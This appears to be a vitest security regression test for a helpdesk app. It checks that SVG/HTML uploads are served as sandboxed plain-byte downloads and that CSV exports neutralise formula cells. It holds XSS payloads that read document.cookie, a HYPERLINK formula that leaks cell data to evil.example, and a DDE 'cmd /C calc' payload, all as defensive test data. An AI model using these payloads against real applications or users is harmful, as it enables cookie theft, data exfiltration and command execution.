/**
 * Two advisory classes about what the app hands back as a file.
 *
 * SVG/HTML upload served inline: an upload that a browser would render in
 * our origin (HTML, SVG, XHTML) must never be served as such. Uploads keep
 * them (every file is kept), typed from their bytes, and serve them as an
 * attachment of plain bytes, sniffing off, sandboxed; and so does a row that
 * names such a type anyway (written by a seed, or by hand).
 *
 * CSV formula injection: a cell that starts with = + - @, or with a tab or
 * carriage return before one, runs as a formula when a spreadsheet opens the
 * export. Every such text cell is neutralised with a leading quote.
 */
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { attachments, organizations } from "@/db/schema";
import { single } from "@/db/rows";
import { GET as downloadRoute } from "@/app/api/attachments/[id]/route";
import { POST as uploadRoute } from "@/app/api/attachments/route";
import { GET as reportCsvRoute } from "@/app/api/reports/[name]/route";
import { writeAttachmentBytes } from "@/server/attachments/storage";
import { toCsv } from "@/server/reports/report-table";
import type { SessionUser } from "@/server/users/session-user";
import { callerFor, createCategory, createOrganization, createUser } from "../support/factories";
import { endRequestSessions, presentSessionOf, routeParams, routeStorageRoot } from "../support/request-session";
import { formulaCells, parseCsv } from "../support/parse-csv";
import { useTestDatabase } from "../support/test-db";

vi.mock("@/server/auth/index", async () => (await import("../support/request-session")).authModule());
vi.mock("@/server/db", async () => (await import("../support/request-session")).dbModule());
vi.mock("@/server/attachments/storage", async (original) => (await import("../support/request-session")).storageModule(await original()));

const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(document.cookie)</script></svg>';
const html = "<!doctype html><html><body><script>fetch('/api/trpc/auth.me').then(r=>r.text()).then(alert)</script></body></html>";

describe("advisory: SVG/HTML upload served inline", async () => {
  const { db } = await useTestDatabase();
  let customer: SessionUser;
  let messageId = "";
  let ticketId = "";

  beforeAll(async () => {
    customer = await createUser(db);
    const { category } = await createCategory(db);
    const created = await callerFor(db, customer).tickets.create({ subject: "A logo question", body: "How do I change the logo?", categoryId: category.id });
    ticketId = created.id;
    const detail = await callerFor(db, customer).tickets.get({ number: created.number });
    messageId = detail.messages[0]?.id ?? "";
  });
  afterAll(endRequestSessions);

  const uploadRequest = (name: string, body: string, type: string) => {
    const form = new FormData();
    form.set("file", new File([body], name, { type }));
    return new Request("http://localhost/api/attachments", { method: "POST", body: form });
  };

  it.each([
    ["logo.svg", svg, "image/svg+xml"],
    ["logo.png", svg, "image/png"],
    ["page.html", html, "text/html"],
    ["page.htm", html, "text/plain"],
    ["page.xhtml", html, "application/xhtml+xml"],
    ["notes.txt", html.replace("<!doctype html>", ""), "text/plain"],
  ])("keeps %s sent as %s, but only ever serves it as a download of plain bytes", async (name, body, type) => {
    presentSessionOf(db, customer.id);
    const response = await uploadRoute(uploadRequest(name, body, type));
    expect(response.status).toBe(201);
    const stored = (await response.json()) as { id: string; fileName: string; contentType: string };
    expect(stored.fileName).toBe(name);
    // The declared type is never recorded: the type comes from the bytes (and, for text only, a text extension).
    expect(stored.contentType).toBe(name.endsWith(".txt") ? "text/plain" : "application/octet-stream");
    const served = await downloadRoute(new Request(`http://localhost/api/attachments/${stored.id}`), routeParams({ id: stored.id }));
    expect(Object.fromEntries(served.headers)).toMatchObject({
      "content-type": "application/octet-stream",
      "content-disposition": expect.stringMatching(/^attachment;/),
      "x-content-type-options": "nosniff",
      "content-security-policy": expect.stringMatching(/(^|; )sandbox(;|$)/),
    });
    expect(await served.text()).toContain("<script>");
  });

  it.each(["image/svg+xml", "text/html", "application/xhtml+xml", " Text/HTML ", "text/xml", "application/javascript"])(
    "serves a stored row that claims %s as an attachment of plain bytes",
    async (contentType) => {
      const storageKey = await writeAttachmentBytes(new TextEncoder().encode(contentType.includes("svg") ? svg : html), routeStorageRoot);
      const row = single(
        await db
          .insert(attachments)
          .values({ ticketId, messageId, uploaderId: customer.id, fileName: "legacy.svg", contentType, size: 10, sha256: "0".repeat(64), storageKey })
          .returning({ id: attachments.id }),
        "attachment",
      );
      presentSessionOf(db, customer.id);
      const response = await downloadRoute(new Request(`http://localhost/api/attachments/${row.id}`), routeParams({ id: row.id }));
      expect(response.status).toBe(200);
      expect(Object.fromEntries(response.headers)).toMatchObject({
        "content-type": "application/octet-stream",
        "content-disposition": expect.stringMatching(/^attachment; filename="legacy\.svg"/),
        "x-content-type-options": "nosniff",
        "content-security-policy": expect.stringMatching(/(^|; )sandbox(;|$)/),
      });
      expect(await response.text()).toContain("<script>");
    },
  );
});

const payloads = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\t@SUM(A1)",
  "=cmd|' /C calc'!A0",
];

describe("advisory: CSV formula injection", async () => {
  const { db } = await useTestDatabase();

  it.each(payloads)("neutralises a text cell %j with a leading quote", (payload) => {
    const csv = toCsv({ columns: [{ key: "name", label: payload, kind: "text" }], rows: [{ name: payload }] });
    expect(parseCsv(csv)).toEqual([[`'${payload}`], [`'${payload}`]]);
    expect(formulaCells(csv)).toEqual([]);
  });

  it("leaves numbers and harmless text alone", () => {
    const csv = toCsv({
      columns: [
        { key: "name", label: "Name", kind: "text" },
        { key: "n", label: "Change", kind: "count" },
      ],
      rows: [{ name: "Acme (North)", n: -3 }],
    });
    expect(csv).toBe("Name,Change\r\nAcme (North),-3\r\n");
  });

  it("neutralises an organization name planted for the export, through the CSV route", async () => {
    const manager = await createUser(db, { role: "manager" });
    const { category } = await createCategory(db);
    const planted: string[] = [];
    for (const payload of ["\t=HYPERLINK(\"http://evil.example\",\"x\")", "\r@SUM(1+1)*cmd|' /C calc'!A0", "=1+2"]) {
      const organization = await createOrganization(db);
      const name = `${payload} ${organization.id.slice(0, 8)}`;
      await db.update(organizations).set({ name }).where(eq(organizations.id, organization.id));
      const member = await createUser(db, { organizationId: organization.id });
      await callerFor(db, member).tickets.create({ subject: "A question", body: "A question for the export test.", categoryId: category.id });
      planted.push(name);
    }
    const today = new Date().toISOString().slice(0, 10);
    const input = encodeURIComponent(JSON.stringify({ from: today, to: today, timeZone: "UTC", dimension: "organization" }));
    presentSessionOf(db, manager.id);
    const response = await reportCsvRoute(new Request(`http://localhost/api/reports/breakdown?input=${input}`), routeParams({ name: "breakdown" }));
    expect(response.status).toBe(200);
    const csv = await response.text();
    const names = parseCsv(csv).map((row) => row[0]);
    for (const name of planted) expect(names).toContain(`'${name}`);
    expect(formulaCells(csv)).toEqual([]);
    presentSessionOf(db, null);
  });
});
